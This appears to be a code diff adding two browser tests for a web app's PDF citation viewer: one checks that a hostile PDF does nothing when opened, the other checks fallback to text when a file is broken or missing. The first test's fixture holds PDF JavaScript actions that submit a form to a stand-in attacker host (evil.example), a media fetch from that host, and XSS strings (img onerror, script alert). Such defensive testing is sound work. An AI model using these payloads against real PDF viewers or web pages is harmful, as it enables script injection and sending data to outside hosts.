@@ -84,6 +84,66 @@ public sealed class PdfPageTests(Browser browser)
         }
     }
 
+    // A visitor fails the test by herself when a dialog opens or another host is asked.
+    [Fact]
+    public async Task What_a_PDF_wants_to_run_or_to_fetch_does_not_happen()
+    {
+        await using var world = await AskingWorld.StartAsync(browser, null);
+        const string Script = "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.example/'\\);)";
+        var hostile = Page(
+            A4 + $" /AA << /O << {Script} >> >> /Annots [6 0 R 7 0 R 8 0 R]",
+            Column(72) + Lines(72, 300, "<img src=x onerror=alert\\(2\\)><script>alert\\(3\\)</script> is only text."),
+            $"/OpenAction << {Script} >> /AcroForm << /Fields [7 0 R] >>",
+            "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/link) >> >>",
+            $"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Kim) /Rect [72 200 300 220] /AA << /Fo << {Script} >> >> >>",
+            "<< /Type /Annot /Subtype /Screen /Rect [72 400 300 500] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://evil.example/film.mp4) >> >> >> >>");
+        await world.AddFilesAsync(world.Handbook, ("hostile.pdf", hostile));
+        var (version, text, _) = await world.ReadAsync("hostile.pdf");
+        var page = world.Visitor.Page;
+
+        await world.Visitor.OpenAsync(await world.AddAnswerAsync("It does.", (version, "hostile.pdf", text.IndexOf("Books", StringComparison.Ordinal), 30)));
+        await Expect(page.Locator(".pdf-mark").First).ToBeInViewportAsync();
+        await page.Locator(".pdf-page").ClickAsync(new() { Position = new() { X = 120, Y = 300 } });
+
+        await Expect(page.Locator(".pdf-text")).ToContainTextAsync("<script>alert(3)</script>");
+        Assert.Equal(0, await page.Locator(".source-pages :is(a, input, img, script, iframe, video, [onerror])").CountAsync());
+        Assert.Single(page.Context.Pages);
+    }
+
+    [Fact]
+    public async Task A_page_that_cannot_be_drawn_gives_way_to_its_text_and_the_choice_of_text_is_remembered()
+    {
+        await using var world = await AskingWorld.StartAsync(browser, null);
+        await world.AddFilesAsync(world.Handbook, ("whole.pdf", Page(A4, Column(72))), ("missing.pdf", Page(A4, Column(73))), ("broken.pdf", Page(A4, Column(74))));
+        var (whole, missing, broken) = (await world.ReadAsync("whole.pdf"), await world.ReadAsync("missing.pdf"), await world.ReadAsync("broken.pdf"));
+        var files = world.App.Get<Collections.DocumentFiles>();
+        await File.WriteAllBytesAsync(files.PathOf(broken.Version.ContentHash), new byte[5000], world.App.Cancel);
+        var (page, visitor) = (world.Visitor.Page, world.Visitor);
+        await visitor.OpenAsync(await world.AddAnswerAsync("It does.", (whole.Version, "whole.pdf", 0, 20), (broken.Version, "broken.pdf", 0, 20), (missing.Version, "missing.pdf", 0, 20)));
+        await Expect(page.Locator(".pdf-mark").First).ToBeInViewportAsync();
+        Assert.True(await page.EvaluateAsync<bool>("document.querySelector('.pdf-page canvas').width > 0"));
+
+        await page.Locator(".source").FocusAsync();
+        await page.Keyboard.PressAsync("ArrowRight");
+        await Expect(page.Locator(".source-note")).ToContainTextAsync("The page cannot be shown.");
+        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
+        File.Delete(files.PathOf(missing.Version.ContentHash));
+        await page.Keyboard.PressAsync("j");
+        await Expect(page.Locator(".source-note")).ToContainTextAsync("The original file is missing.");
+        await Expect(page.GetByLabel("Download")).ToHaveCountAsync(0);
+
+        await page.Keyboard.PressAsync("k");
+        await Expect(page.Locator(".source-count")).ToHaveTextAsync("Citation 2 of 3");
+        await page.Keyboard.PressAsync("k");
+        await Expect(page.Locator(".source-count")).ToHaveTextAsync("Citation 1 of 3");
+        await page.GetByRole(AriaRole.Button, new() { Name = "Text", Exact = true }).ClickAsync();
+        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
+        await page.ReloadAsync();
+        await visitor.ConnectedAsync();
+        await Expect(page.GetByRole(AriaRole.Button, new() { Name = "Text", Exact = true })).ToHaveAttributeAsync("aria-pressed", "true");
+        await Expect(page.Locator(".source mark.marker")).ToBeInViewportAsync();
+    }
+
     private static IEnumerable<(int Start, int Length)> Quotes(string text, IReadOnlyList<PlacedBlock> blocks)
     {
         var written = blocks.Where(block => block.Words?.Count > 4).ToList();
